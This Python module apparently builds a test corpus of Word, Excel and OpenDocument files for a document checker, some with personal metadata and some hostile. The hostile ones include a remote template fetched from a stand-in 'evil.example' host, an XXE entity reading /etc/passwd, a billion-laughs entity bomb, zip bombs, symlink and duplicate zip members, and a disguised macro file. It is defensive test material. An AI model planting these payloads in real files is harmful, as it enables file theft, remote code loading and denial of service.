"""Word, Excel and OpenDocument files for the corpus, good and bad."""

import io
import stat
import zipfile

from .make_pictures import jpeg_with_exif

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TYPE = "application/vnd.openxmlformats-officedocument."
MAIN = {
    "docx": f"{TYPE}wordprocessingml.document.main+xml",
    "xlsx": f"{TYPE}spreadsheetml.sheet.main+xml",
}
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
CORE = (
    f'{HEAD}<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Jan Kowalski</dc:creator>'
    "<cp:lastModifiedBy>Anna Nowak</cp:lastModifiedBy></cp:coreProperties>"
)
APP = f"{HEAD}<Properties><Company>Kowalski-firma</Company></Properties>"
CUSTOM = f"{HEAD}<Properties><property name='PESEL'>44051401359</property></Properties>"


def packed(members: dict, **infos) -> bytes:
    """A zip of some members: name → text or bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(infos.get(name) or name, content)
    return out.getvalue()


def relations(*rows: tuple[str, str, str]) -> str:
    """Relationships: (id, last word of the type, target), "!" for outside."""
    lines = "".join(
        f'<Relationship Id="{key}" Type="{OFFICE}/{kind}" Target="{target.strip("!")}"'
        + (' TargetMode="External"/>' if target.startswith("!") else "/>")
        for key, kind, target in rows
    )
    return (
        f'{HEAD}<Relationships xmlns="{PACKAGE}/relationships">{lines}</Relationships>'
    )


def types(main_name: str, main_type: str, *more: tuple[str, str]) -> str:
    """The list of content types."""
    rows = "".join(
        f'<Override PartName="/{name}" ContentType="{value}"/>'
        for name, value in ((main_name, main_type), *more)
    )
    return (
        f'{HEAD}<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-'
        'package.relationships+xml"/><Default Extension="xml" ContentType="application'
        '/xml"/><Default Extension="jpeg" ContentType="image/jpeg"/>'
        '<Default Extension="bin" ContentType="application/octet-stream"/>'
        f"{rows}</Types>"
    )


def word(inside: str = "", rels=(), more: dict | None = None, **changes) -> bytes:
    """A Word document of one paragraph; ``inside`` goes into its body."""
    body = (
        f'{HEAD}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>'
        f'<w:p w:rsidR="00AB12CD"><w:r><w:t>Raport</w:t></w:r></w:p>{inside}'
        "</w:body></w:document>"
    )
    members = {
        "[Content_Types].xml": types("word/document.xml", MAIN["docx"]),
        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml")),
        "word/document.xml": body,
        "word/_rels/document.xml.rels": relations(*rels),
    }
    return packed(members | (more or {}) | changes.get("members", {}))


def excel(
    cells: str = '<c r="A1"><v>7</v></c>',
    book: str = "",
    rels=(),
    sheet_rels=(),
    more: dict | None = None,
    state: str = "",
    after: str = "",
) -> bytes:
    """A spreadsheet of one sheet."""
    members = {
        "[Content_Types].xml": types("xl/workbook.xml", MAIN["xlsx"]),
        "_rels/.rels": relations(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{HEAD}<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}">{book}'
        f'<sheets><sheet name="Dane" sheetId="1" {state} r:id="rId1"/></sheets>'
        "</workbook>",
        "xl/_rels/workbook.xml.rels": relations(
            ("rId1", "worksheet", "worksheets/sheet1.xml"), *rels
        ),
        "xl/worksheets/sheet1.xml": f'{HEAD}<worksheet xmlns="{SHEET}" '
        f'xmlns:r="{OFFICE}"><sheetData><row r="1">{cells}</row></sheetData>{after}'
        "</worksheet>",
    }
    if sheet_rels:
        members["xl/worksheets/_rels/sheet1.xml.rels"] = relations(*sheet_rels)
    return packed(members | (more or {}))


ODF_SPACES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)


def odf(
    kind: str = "odt", inside: str = "", more=None, entries: str = "", before: str = ""
) -> bytes:
    """An OpenDocument file with author, settings and a thumbnail, as they all have."""
    word_of_kind = {"odt": "text", "ods": "spreadsheet"}[kind]
    mimetype = f"application/vnd.oasis.opendocument.{word_of_kind}"
    body = "<text:p>Raport</text:p>" if kind == "odt" else _table()
    manifest = (
        f"{HEAD}<manifest:manifest xmlns:manifest="
        '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        f'manifest:full-path="/" manifest:media-type="{mimetype}"/>{entries}'
        "</manifest:manifest>"
    )
    members = {
        "mimetype": mimetype,
        "content.xml": f"{HEAD}<office:document-content {ODF_SPACES}>{before}"
        f"<office:body><office:{word_of_kind}>{body}{inside}</office:{word_of_kind}>"
        "</office:body></office:document-content>",
        "meta.xml": f"{HEAD}<office:document-meta {ODF_SPACES}>"
        "<dc:creator>Jan Kowalski</dc:creator></office:document-meta>",
        "settings.xml": f"{HEAD}<office:document-settings {ODF_SPACES}>"
        "Drukarka-Kowalskiego</office:document-settings>",
        "Thumbnails/thumbnail.png": b"miniatura",
        "META-INF/manifest.xml": manifest,
    }
    return packed(members | (more or {}))


def _table() -> str:
    return (
        '<table:table table:name="Dane" table:style-name="ta1"><table:table-row>'
        "<table:table-cell><text:p>7</text:p></table:table-cell></table:table-row>"
        "</table:table>"
    )


def remark() -> str:
    """A remark in OpenDocument, with who and when."""
    return (
        "<text:p><office:annotation><dc:creator>Kowalski-uwaga</dc:creator>"
        "<dc:date>2026-01-02T03:04:05</dc:date><text:p>uwaga</text:p>"
        "</office:annotation></text:p>"
    )


def word_with_people() -> bytes:
    """Author, company, own properties, a remark, a tracked change, a list of people."""
    inside = (
        '<w:p><w:ins w:id="1" w:author="Kowalski-zmiana" w:date="2026-01-02T03:04:05Z">'
        "<w:r><w:t>dopisane</w:t></w:r></w:ins></w:p>"
    )
    root = relations(
        ("rId1", "officeDocument", "word/document.xml"),
        ("rId2", "core-properties", "docProps/core.xml"),
        ("rId3", "extended-properties", "docProps/app.xml"),
        ("rId4", "custom-properties", "docProps/custom.xml"),
        ("rId5", "thumbnail", "docProps/thumbnail.jpeg"),
    )
    comments = (
        f'{HEAD}<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:author="Kowalski-'
        'uwaga" w:initials="JK" w:date="2026-01-02T03:04:05Z"><w:p><w:r><w:t>popraw'
        "</w:t></w:r></w:p></w:comment></w:comments>"
    )
    more = {
        "_rels/.rels": root,
        "docProps/core.xml": CORE,
        "docProps/app.xml": APP,
        "docProps/custom.xml": CUSTOM,
        "docProps/thumbnail.jpeg": jpeg_with_exif(),
        "word/comments.xml": comments,
        "word/people.xml": f"{HEAD}<people>kowalski@example.org</people>",
    }
    rels = (("rId1", "comments", "comments.xml"), ("rId2", "people", "people.xml"))
    return word(inside, rels, more)


def word_with_template() -> bytes:
    """Fetches its template from the network when opened."""
    settings = (
        f'{HEAD}<w:settings xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:attachedTemplate '
        'r:id="rId1"/><w:rsids><w:rsid w:val="00AB12CD"/></w:rsids></w:settings>'
    )
    more = {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": relations(
            ("rId1", "attachedTemplate", "!http://evil.example/szablon.dotm")
        ),
    }
    return word("", (("rId1", "settings", "settings.xml"),), more)


def word_with_chart() -> bytes:
    """A chart that carries the whole spreadsheet it was drawn from."""
    space = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    chart = (
        f'{HEAD}<c:chartSpace xmlns:c="{space}" xmlns:r="{OFFICE}"><c:chart/>'
        '<c:externalData r:id="rId1"/></c:chartSpace>'
    )
    more = {
        "word/charts/chart1.xml": chart,
        "word/charts/_rels/chart1.xml.rels": relations(
            ("rId1", "package", "../embeddings/dane.xlsx")
        ),
        "word/embeddings/dane.xlsx": excel('<c t="str"><v>Kowalski-tabela</v></c>'),
    }
    inside = f'<w:p><w:r><c:chart xmlns:c="{space}" r:id="rId1"/></w:r></w:p>'
    return word(inside, (("rId1", "chart", "charts/chart1.xml"),), more)


def word_with_photo(target: str = "media/image1.jpeg", **more) -> bytes:
    """A photo with a place in it, inside a document."""
    space = "http://schemas.openxmlformats.org/drawingml/2006/main"
    inside = f'<w:p><w:r><a:blip xmlns:a="{space}" r:embed="rId1"/></w:r></w:p>'
    members = {"word/media/image1.jpeg": jpeg_with_exif()} | more
    return word(inside, (("rId1", "image", target),), members)


def word_with_field(instruction: str) -> bytes:
    """A field in pieces, as Word writes it."""
    half = len(instruction) // 2
    inside = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction[:half]}</w:instrText></w:r>"
        f"<w:r><w:instrText>{instruction[half:]}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return word(inside)


def word_with_macros() -> bytes:
    """A document with a program that calls itself .docx."""
    macros = types(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    more = {"[Content_Types].xml": macros, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    return word("", (("rId1", "vbaProject", "vbaProject.bin"),), more)


def word_with_bomb(document_type: str) -> bytes:
    """Entities in the XML of a document."""
    body = (
        f'{HEAD}{document_type}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&z;'
        "</w:t></w:r></w:p></w:body></w:document>"
    )
    return word(members={"word/document.xml": body})


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefghi", "bcdefghiz", strict=True)
    )
    + "]>"
)
FOREIGN = '<!DOCTYPE x [<!ENTITY z SYSTEM "file:///etc/passwd">]>'


def with_odd_member(name: str, mode: int = 0) -> bytes:
    """A document with one more member of a strange name or kind."""
    info = zipfile.ZipInfo(name)
    info.external_attr = mode << 16
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(info, b"../../../../etc/passwd")
    return out.getvalue()


def with_link_member() -> bytes:
    """A member that is a symbolic link."""
    return with_odd_member("word/link.xml", stat.S_IFLNK | 0o777)


def with_twin_member() -> bytes:
    """Two members of one name: a checker reads the one, Word the other."""
    return with_odd_member("word/document.xml")


def bomb(kind: str = "docx") -> bytes:
    """100 MB of nothing in a document of 100 kB."""
    return word(more={"word/big.xml": b"\0" * 100_000_000})


def dense() -> bytes:
    """40 MB that pack a thousandfold."""
    return word(more={"word/big.xml": b" " * 40_000_000})


def crowd() -> bytes:
    """Five thousand members."""
    return word(more={f"word/part{number}.xml": "" for number in range(5_000)})
